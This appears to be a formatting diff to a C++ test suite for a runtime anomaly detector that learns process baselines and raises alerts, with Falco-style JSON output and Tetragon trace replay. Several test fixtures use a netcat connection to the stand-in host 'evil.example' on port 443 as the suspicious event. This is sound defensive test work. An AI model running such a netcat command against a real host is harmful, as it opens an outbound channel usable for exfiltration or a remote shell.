@@ -24,8 +24,8 @@ std::vector<Event> normal_behaviour() {
     std::vector<Event> v;
     std::uint64_t t = t0;
     v.push_back(exec_event("/usr/bin/app", {"app", "--serve"}, t, workload, 0x801, 1000));
-    Event script = exec_event("/usr/bin/python3", {"python3", "/app/job.py"}, t += second,
-                              workload, 0x801, 2000);
+    Event script = exec_event("/usr/bin/python3", {"python3", "/app/job.py"}, t += second, workload,
+                              0x801, 2000);
     script.exec.interpreter = "/usr/bin/python3";
     script.exec.script = "/app/job.py";
     v.push_back(script);
@@ -44,7 +44,8 @@ std::vector<Event> normal_behaviour() {
 
 Profile normal_profile() {
     Profile p(workload, "sha256:feed");
-    for (const auto& e : normal_behaviour()) p.learn(e);
+    for (const auto& e : normal_behaviour())
+        p.learn(e);
     return p;
 }
 
@@ -62,7 +63,8 @@ std::vector<Alert> check(AnomalyDetector& d, const Event& e) {
 
 std::vector<Rule> rules_of(const std::vector<Alert>& alerts) {
     std::vector<Rule> r;
-    for (const auto& a : alerts) r.push_back(a.rule);
+    for (const auto& a : alerts)
+        r.push_back(a.rule);
     return r;
 }
 
@@ -80,7 +82,8 @@ std::uint64_t t_late = t0 + 10'000 * second;
 TEST_CASE("the behaviour a baseline was learned from raises no alert") {
     AnomalyDetector d = detector_for(normal_profile());
     std::vector<Alert> out;
-    for (const auto& e : normal_behaviour()) d.check(e, out);
+    for (const auto& e : normal_behaviour())
+        d.check(e, out);
     CHECK(out.empty());
     // Nor do new names in a generalized place, repeats or process exits.
     CHECK(check(d, open_event("/tmp/req-9999", o_wronly | o_creat, t_late)).empty());
@@ -92,8 +95,8 @@ TEST_CASE("the behaviour a baseline was learned from raises no alert") {
 
 TEST_CASE("an executable the baseline never ran raises unexpected_executable") {
     AnomalyDetector d = detector_for(normal_profile());
-    auto alerts = check(d, exec_event("/usr/bin/nc", {"nc", "evil.example", "443"}, t_late,
-                                      workload, 0x801, 3000));
+    auto alerts = check(
+        d, exec_event("/usr/bin/nc", {"nc", "evil.example", "443"}, t_late, workload, 0x801, 3000));
     REQUIRE(rules_of(alerts) == std::vector<Rule>{Rule::unexpected_executable});
     const Alert& a = alerts[0];
     CHECK(a.subject == "/usr/bin/nc");
@@ -107,8 +110,8 @@ TEST_CASE("an executable the baseline never ran raises unexpected_executable") {
 
 TEST_CASE("a known path with another file identity raises executable_changed") {
     AnomalyDetector d = detector_for(normal_profile());
-    auto alerts = check(d, exec_event("/usr/bin/app", {"app", "--serve"}, t_late, workload, 0x801,
-                                      999));
+    auto alerts =
+        check(d, exec_event("/usr/bin/app", {"app", "--serve"}, t_late, workload, 0x801, 999));
     REQUIRE(rules_of(alerts) == std::vector<Rule>{Rule::executable_changed});
     CHECK(evidence(alerts[0], "expected_identities") == "2049:1000");
     CHECK(evidence(alerts[0], "identity") == "2049:999");
@@ -138,8 +141,7 @@ TEST_CASE("execution from memory or of a deleted file raises drift_memory") {
     memfd.exec.memory = true;
     memfd.exec.deleted = true;
     auto alerts = check(d, memfd);
-    CHECK(rules_of(alerts) ==
-          std::vector<Rule>{Rule::unexpected_executable, Rule::drift_memory});
+    CHECK(rules_of(alerts) == std::vector<Rule>{Rule::unexpected_executable, Rule::drift_memory});
     CHECK(alerts[1].severity == Severity::critical);
     CHECK(evidence(alerts[1], "memory") == "true");
 
@@ -148,10 +150,11 @@ TEST_CASE("execution from memory or of a deleted file raises drift_memory") {
     CHECK(rules_of(check(d, deleted)) == std::vector<Rule>{Rule::drift_memory});
 }
 
-TEST_CASE("an interpreter running a script from a writable directory raises drift_interpreter_script") {
+TEST_CASE(
+    "an interpreter running a script from a writable directory raises drift_interpreter_script") {
     AnomalyDetector d = detector_for(normal_profile());
-    Event e = exec_event("/usr/bin/python3", {"python3", "/tmp/x.py"}, t_late, workload, 0x801,
-                         2000);
+    Event e =
+        exec_event("/usr/bin/python3", {"python3", "/tmp/x.py"}, t_late, workload, 0x801, 2000);
     e.exec.interpreter = "/usr/bin/python3";
     e.exec.script = "/tmp/x.py";
     auto alerts = check(d, e);
@@ -291,8 +294,7 @@ TEST_CASE("lost events raise monitoring_degraded, with or without a workload") {
     REQUIRE(rules_of(alerts) == std::vector<Rule>{Rule::monitoring_degraded});
     CHECK(evidence(alerts[0], "lost_count") == "12");
     CHECK(evidence(alerts[0], "lost_kind") == "open");
-    CHECK(rules_of(check(d, lost_event(EventKind::exec, 1, t_late, "container:zzz"))).size() ==
-          1);
+    CHECK(rules_of(check(d, lost_event(EventKind::exec, 1, t_late, "container:zzz"))).size() == 1);
 }
 
 TEST_CASE("an alert from a baseline learned with losses says so") {
@@ -386,8 +388,8 @@ TEST_CASE("the rate limiter keeps suppressing while it prunes expired keys at it
 
 TEST_CASE("an alert as JSON has Falco's fields and reads back") {
     AnomalyDetector d = detector_for(normal_profile());
-    Event e = exec_event("/usr/bin/nc", {"nc", "evil.example", "443"},
-                         t0 + 123'456'789ULL, workload + "0123456789abcdef", 0x801, 3000);
+    Event e = exec_event("/usr/bin/nc", {"nc", "evil.example", "443"}, t0 + 123'456'789ULL,
+                         workload + "0123456789abcdef", 0x801, 3000);
     d.alias(e.workload, workload);
     e.pid = 77;
     e.ppid = 7;
@@ -419,7 +421,8 @@ TEST_CASE("an alert as JSON has Falco's fields and reads back") {
     CHECK(std::string_view(f["container.full_id"]) == "abc0123456789abcdef");
 
     std::vector<std::string_view> tags;
-    for (std::string_view t : doc["tags"].get_array()) tags.push_back(t);
+    for (std::string_view t : doc["tags"].get_array())
+        tags.push_back(t);
     CHECK(std::find(tags.begin(), tags.end(), "process") != tags.end());
 
     simdjson::dom::element own = doc["rtguard"];
@@ -484,7 +487,8 @@ std::vector<Event> read_tetragon(const std::filesystem::path& dir,
 TEST_CASE("learning part of a Tetragon trace and detecting on the rest gives specific alerts") {
     RTGUARD_REQUIRE_SHARED_DATA(data);
     std::filesystem::path book = data / "traces" / "tetragon" / "book";
-    const std::string pod = "container:e6af4dff4ea3b8d50313c59fbaa442e377da35671e79f43b8dc53c5efcc9b659";
+    const std::string pod =
+        "container:e6af4dff4ea3b8d50313c59fbaa442e377da35671e79f43b8dc53c5efcc9b659";
     const std::string replica =
         "container:bae66fa9f18079f78500ad37e88eb8a88b3181b2d0767f26dc532f75e4024d27";
 
@@ -515,7 +519,8 @@ TEST_CASE("learning part of a Tetragon trace and detecting on the rest gives spe
     }
 
     std::map<Rule, std::string> fired;
-    for (const auto& a : alerts) fired[a.rule] = a.subject;
+    for (const auto& a : alerts)
+        fired[a.rule] = a.subject;
     CHECK(fired.size() == 3);
     CHECK(alerts.size() == 3);
     CHECK(fired[Rule::unexpected_executable] == "/usr/bin/nc");
@@ -537,11 +542,13 @@ TEST_CASE("learning and detecting on the same Tetragon events gives no alert") {
     REQUIRE(events.size() > 10);
 
     Baseline baseline;
-    for (const auto& e : events) baseline.learn(e);
+    for (const auto& e : events)
+        baseline.learn(e);
     AnomalyDetector d;
     d.add(baseline);
     std::vector<Alert> alerts;
-    for (const auto& e : events) d.check(e, alerts);
+    for (const auto& e : events)
+        d.check(e, alerts);
     CHECK(alerts.empty());
     CHECK(d.stats().events == events.size());
 }
